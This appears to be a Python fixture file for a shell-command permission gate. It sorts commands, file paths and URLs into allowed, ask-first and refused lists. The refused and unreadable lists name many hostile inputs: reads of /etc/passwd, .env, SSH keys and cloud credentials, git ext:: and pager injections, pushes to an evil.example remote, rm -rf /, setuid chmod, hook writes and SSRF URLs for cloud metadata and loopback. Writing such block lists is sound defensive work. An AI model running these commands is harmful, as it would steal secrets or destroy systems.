"""What developers do all day, and what nobody should get to do unasked. Lists to add to, never to trim."""

from __future__ import annotations

# Run without a question under `developer`.
ALLOWED_COMMANDS = """
env
env ls
env CI=1 NO_COLOR=1 pytest -q
time ls
time env CI=1 git status
timeout 60 pytest -q
timeout -k 5 1m make test
nice -n 10 make test
nice timeout 60 ls
xargs wc -l README.md
xargs -0 grep -l TODO README.md
npx tsc --noEmit
npx tsc -p src
npx eslint src
npx --no-install prettier --check .
npx jest src
npx vitest run
uv run pytest -q
uv run --frozen mypy src
uv run python -m pytest
ls
ls -la
ls -1 src
ls --color=never -R tests
cat README.md
cat -n src/main.py
head -20 README.md
head -n 5 src/main.py
tail -n 50 build.log
tail -c 100 build.log
wc -l src/main.py tests/test_main.py
grep -rn "def main" src
grep -riE "todo|fixme" .
grep -l needle -r src --include=*.py
grep -c . README.md
grep -e one -e two README.md
grep -A3 -B2 pattern src/main.py
grep "a;b|c && $(d) > e" README.md
rg TODO
rg -n "class .*Error" src
rg --files -g "*.py"
rg -i -C 3 needle src tests
rg -tpy -l import
find . -name "*.py"
find src -type f -newer README.md
find . -name "*.pyc" -not -path "./.venv/*"
find . ( -name "*.c" -o -name "*.h" ) -print
find . -maxdepth 2 -type d -empty
tree -L 2
stat README.md
file README.md
du -sh src
diff -u a.txt b.txt
sort -u names.txt
sort -t, -k2 -n data.csv
uniq -c names.txt
cut -d, -f1,3 data.csv
jq .version package.json
jq -r ".scripts | keys[]" package.json
sed -n 10,20p src/main.py
sed -n "/start/,/end/p" src/main.py
sed "s/old/new/g" README.md
sed -E "s/(a|b)+/x/" README.md
echo hello world
pwd
date +%Y-%m-%d
which python
sha256sum README.md
realpath src
git status
git status --short --branch
git log
git log --oneline -10
git log -n 3 --stat
git log --graph --oneline --all
git log --since="2 weeks ago" --author=ada
git log -p -- src/main.py
git log main..HEAD
git log --follow README.md
git log --format="%h %s"
git diff
git diff HEAD
git diff --cached
git diff --stat main...feature
git diff HEAD~3 HEAD -- src
git diff --name-only origin/main
git show
git show HEAD
git show HEAD~2:src/main.py
git show --stat abc1234
git blame src/main.py
git blame -L 10,20 src/main.py
git branch
git branch -a
git branch --show-current
git branch feature/new
git rev-parse HEAD
git rev-parse --abbrev-ref HEAD
git rev-parse --show-toplevel
git ls-files
git ls-files -m --others --exclude-standard
git remote -v
git remote get-url origin
git describe --tags --always
git merge-base main HEAD
git grep -n needle
git reflog
git cat-file -p HEAD
git config --get user.name
git config --list
git shortlog -sn
git -C src status
git --no-pager diff
git add .
git add src/main.py tests
git add -A
git commit -m "Fix the parser"
git commit -am "Fix the parser"
python --version
python3 -V
python script.py
python script.py --flag value -x
python -m pytest
python -m pytest tests/test_main.py -x -q
python -m unittest -v
python -m mypy src
python -m ruff check .
pytest
pytest -x
pytest -q tests/test_main.py::test_one
pytest -k "one and not two" --maxfail=1
pytest tests/test_main.py::TestIt::test_it[case-1]
pytest --cov=src --tb=short -n 4
pytest -vv --lf
ruff check
ruff check src tests --select E,F
ruff check --diff .
mypy src
mypy --strict src/main.py
pip list
pip show requests
pip freeze
npm test
npm t
npm run build
npm run lint -- --max-warnings 0
npm ls --depth=0
npm --version
node --version
node script.js --port 3000
node --test
make
make test
make -j4 build
make -n all
cargo build --release
cargo test -- --nocapture
cargo clippy --all-targets
go build ./...
go test -v ./pkg/...
go vet ./...
mkdir -p build/out
touch src/new.py
"""

# A person is asked.
ASKED_COMMANDS = """
env cp a.txt b.txt
time rm a.txt
timeout 5 cp a.txt b.txt
nice timeout 5 rm a.txt
npx eslint --fix src
npx prettier --write src
npx -p other tsc
uv run python -c x
uv run ruff check --fix src
git push
git push -u origin feature
git pull --rebase
git fetch --all
git checkout main
git checkout -b feature
git checkout -- src/main.py
git switch -c feature
git restore src/main.py
git reset --hard HEAD~1
git merge feature
git rebase main
git cherry-pick abc1234
git stash
git stash pop
git tag v1.0
git commit --amend -m "Better words"
git branch -D feature
git rm old.txt
git mv a.txt b.txt
git worktree add trees/next main
python -c "print(1)"
node -e "console.log(1)"
ruff check --fix
ruff format
black .
pip install requests
python -m pip install requests
npm install
npm install --save-dev jest
npm ci
npm start
npx create-app
cargo add serde
go get example.com/x
cp a.txt b.txt
mv a.txt b.txt
rm old.txt
rm -rf build
chmod +x script.sh
make -f other.mk
"""

# Never without somebody changing the policy first.
REFUSED_COMMANDS = """
env -i ls
env -S 'rm a.txt'
env -C / ls
env --split-string=ls
env FOO=1 ls
env PATH=src ls
env LD_PRELOAD=src/x.so ls
env GIT_SSH_COMMAND=id git fetch
env GIT_EXTERNAL_DIFF=id git diff
env CI=/etc/passwd ls
env ./script.py
env bash -c id
env env sh
time -o a.txt ls
time git clean -fd
timeout 5 git log
timeout 5 env git log
timeout 5 sh -c id
timeout 5 ./script.py
timeout 5 cat .env
timeout 5 cat ../secret
timeout 5 find . -delete
timeout 5 sed -i s/a/b/ a.txt
timeout 5 python -i
timeout --signal='KILL rm' 5 ls
nice git status
nice sudo ls
nice -n x ls
xargs
xargs sh
xargs sort
xargs uniq
xargs find
xargs rg x
xargs sed -n 1p
xargs python
xargs git log
xargs env ls
xargs timeout 5 rm
xargs -I ls ls
xargs -I / cat
xargs -I cat cat
xargs -I {} {} a.txt
xargs -i cat
xargs --replace=cat cat
xargs -a .env echo
xargs --arg-file=.env echo
xargs --process-slot-var=LD_PRELOAD cat
xargs -P 1000 cat
xargs cat .env
timeout 5 xargs rm
npx -c id
npx --call=id
npx tsc --outDir ../x
npx tsc -p ../x
npx tsc @a.txt
npx eslint -c other.js src
npx eslint --resolve-plugins-relative-to x src
npx eslint -f ./x.js src
npx prettier --plugin=./x.js src
npx prettier --check .env
npx jest --config x.js
npx jest --globalSetup ./x.js
npx vitest --config x.js
uv run --with x pytest
uv run --env-file .env pytest
uv run --python /tmp/python pytest
uv run --script script.py
uv run script.py
uv run git status
uv run bash
uv run npm install
uv run pytest -p evil
uv run pytest -c ../x
cat
cat -
grep x
grep x -
head
wc -l
sed -n 1p
jq .
sort -
tr a-z A-Z
python3 -
node
bash -c 'id $x'
sh -c 'eval id'
zsh
sudo ls
su -
xargs rm
nohup ls
eval ls
./ls
/bin/ls
/tmp/x/ls
../bin/ls
ls;eval
LS
curl https://example.com
wget https://example.com
nc -l 80
ssh host
scp a host:
rsync a host:
docker run alpine
kubectl get pods
dd if=/dev/zero of=disk
mkfs.ext4 /dev/sda
mount /dev/sda /mnt
kill -9 1
systemctl stop x
crontab -e
at now
perl -e 1
ruby -e 1
awk BEGIN{system("id")}
vim -c !id
tee out
ln -s /etc/passwd x
ls /etc
ls ..
ls /
ls ~root/../../etc
cat /etc/passwd
cat ../secret
cat src/../../secret
cat .env
cat ./.env
cat .ENV
cat sub/.env.local
cat .ssh/id_rsa
cat server.pem
cat link-out
cat link-env
cat --unknown README.md
head -n 5 /etc/shadow
grep -r x /
grep root /etc/passwd
grep -f /etc/passwd README.md
grep -e x /etc/passwd
grep x README.md .env
grep --file=/etc/passwd x
rg --pre cat x
rg --pre=id x
rg -f /etc/passwd .
rg --search-zip x
rg x /etc
rg --ignore-file /etc/passwd x
find / -name passwd
find . -exec id ;
find . -name x -exec sh -c id {} +
find . -execdir id ;
find . -ok id ;
find . -delete
find . -fprint out
find . -fprintf out %p
find . -fls out
find .. -name x
sort -o out names.txt
sort --output=out names.txt
sort --compress-program=id names.txt
sort -T /tmp names.txt
uniq names.txt out
sed -i s/a/b/ README.md
sed -i.bak s/a/b/ README.md
sed --in-place s/a/b/ README.md
sed "1e id" README.md
sed "s/a/b/e" README.md
sed "s/a/b/w out" README.md
sed "w out" README.md
sed -n "1p;1w out" README.md
sed -f script.sed README.md
sed "r /etc/passwd" README.md
sed -n p /etc/passwd
tree -o out
diff README.md /etc/passwd
jq -f /etc/passwd .
jq --rawfile x /etc/passwd .
date -s 2020-01-01
date -f /etc/passwd
file -f /etc/passwd
wc --files0-from=/etc/passwd
git -c core.pager=id log
git -c alias.x=!id x
git --exec-path=/tmp status
git --git-dir=/tmp/evil status
git --work-tree=/ status
git -C / status
git -C ../other log
git config core.pager id
git config --global user.name x
git config alias.x !id
git log --output=out
git diff --output=out
git diff --no-index /etc/passwd README.md
git diff --ext-diff
git log --show-signature
git grep -O x
git grep --open-files-in-pager=id x
git grep x -- /etc
git show HEAD:.env
git show HEAD:../../etc/passwd
git log -- ../secret
git diff HEAD -- .env
git blame /etc/passwd
git clone https://example.com/x
git clone ext::sh -c id
git fetch ext::id
git fetch --upload-pack=id origin
git pull https://evil.example/x
git push --receive-pack=id origin
git push https://evil.example/x main
git remote add evil https://evil.example/x
git submodule update
git filter-branch
git bisect run id
git difftool
git mergetool
git archive --exec=id
git clean -fdx
git add ../secret
git add /etc/passwd
git commit -F /etc/passwd
git worktree add ../../x
git worktree add /tmp/x main
git apply /etc/passwd
git daemon
git instaweb
git credential fill
git update-index --index-info
git hash-object -w /etc/passwd
git rebase --exec id main
git rebase -x id main
python -i
python -m http.server
python /tmp/evil.py
python ../evil.py
python -m pdb x
pytest --basetemp=.
pytest -p evil
pytest /tmp/evil
pytest --pdb
pytest --rootdir=/
ruff check --config=/etc/passwd
ruff --config x check
mypy --python-executable=/tmp/x src
pip uninstall -y requests
pip config set x y
npm publish
npm install -g x
npm config set x y
npm explore x
npm --prefix / test
node -i
node --env-file=.env script.js
node /tmp/evil.js
make --eval x:;id
make SHELL=/tmp/x
make -C / all
make -C ../other
cargo publish
cargo run --manifest-path=/x
go run /tmp/x.go -exec id
go generate
go tool x
mkdir /tmp/x
mkdir ../x
touch .git/hooks/pre-commit
touch /etc/x
touch toolgate.yaml
cp .env public.txt
cp /etc/passwd x
cp README.md /tmp/x
cp x .git/hooks/pre-commit
mv toolgate.yaml x
mv README.md ../x
rm -rf /
rm -rf ..
rm -rf .git
rm toolgate.yaml
rm --no-preserve-root -rf /
chmod u+s script.sh
chmod 4755 script.sh
chmod 777 /etc/passwd
"""

READABLE = """
README.md
./README.md
src/main.py
src/../README.md
.env.example
.github/workflows/ci.yml
.gitignore
.git/HEAD
docs/a b.md
~
$HOME
..data
%2e%2e
link-in
package-lock.json
new/file.txt
src/environment.py
tests/test_keys.py
""".split("\n")[1:-1]

UNREADABLE = """
..
../secret
/etc/passwd
/etc/shadow
/proc/self/environ
/dev/zero
src/../../secret
.env
./.env
.ENV
.env.local
sub/.env
.ssh/id_rsa
id_rsa
ID_ED25519
server.pem
private.key
.aws/credentials
.netrc
.npmrc
link-out
link-out-absolute
link-env
link-dir/secret
hard-env
""".split("\n")[1:-1]

UNWRITABLE = """
.git/config
.git/hooks/pre-commit
.GIT/HEAD
toolgate.yaml
toolgate.commands.yaml
toolgate.db
.bashrc
""".split("\n")[1:-1]

FETCHABLE = """
https://docs.python.org/3/library/os.html
https://github.com/python/cpython/blob/main/README.rst
https://raw.githubusercontent.com/a/b/main/README.md
https://requests.readthedocs.io/en/latest/
https://developer.mozilla.org/en-US/docs/Web
https://stackoverflow.com/questions/1?q=a%20b#c
http://docs.python.org/
https://en.wikipedia.org/wiki/Ä
""".split("\n")[1:-1]

ASKED_URLS = ["https://example.com/", "https://blog.example.org:443/post?id=1", "https://bücher.example/"]

UNFETCHABLE = """
http://127.0.0.1/
http://localhost.localdomain:8080/
http://[::1]/
http://0.0.0.0/
http://10.0.0.1/
http://192.168.1.1/
http://172.16.0.1/
http://169.254.169.254/latest/meta-data/
http://[fd00:ec2::254]/
http://[::ffff:127.0.0.1]/
http://[64:ff9b::7f00:1]/
http://[2002:7f00:1::]/
http://2130706433/
http://0x7f.1/
http://0177.0.0.1/
http://127.1/
http://①②⑦.⓪.⓪.①/
https://user:pw@github.com/
https://github.com@evil.example/
https://github.com:22/
https://github.com:8443/
ftp://github.com/
file:///etc/passwd
gopher://github.com/
data:text/html,x
//github.com/
github.com
https://
https://github.com\\@evil.example/
https://git hub.com/
javascript:alert(1)
""".split("\n")[1:-1]
